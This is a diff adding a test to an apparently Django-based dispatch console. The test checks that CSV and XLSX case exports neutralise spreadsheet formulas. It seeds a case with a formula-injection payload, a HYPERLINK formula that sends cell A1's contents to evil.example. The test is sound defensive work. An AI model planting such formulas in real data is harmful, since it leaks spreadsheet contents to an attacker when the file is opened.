@@ -181,3 +181,18 @@ def test_english_validation_message(login, personas, report):
     response = client.post(act(case, "reject"), {})
     assert response.status_code == 400
     assert "This field is required." in response.content.decode()
+
+
+def test_exports_neutralise_formulas(login, personas, report):
+    case = report(description='=HYPERLINK("http://evil.example/?"&A1,"click")')
+    client = login(personas.dispatcher)
+    response = client.get(reverse("console:case-export", args=["csv"]))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    row = next(r for r in rows if r[0] == case.number)
+    assert row[-1] == "'" + case.description
+    response = client.get(reverse("console:case-export", args=["xlsx"]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet is not None
+    cells = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == case.number)
+    assert cells[-1].data_type == "s"
+    assert cells[-1].value == "'" + case.description
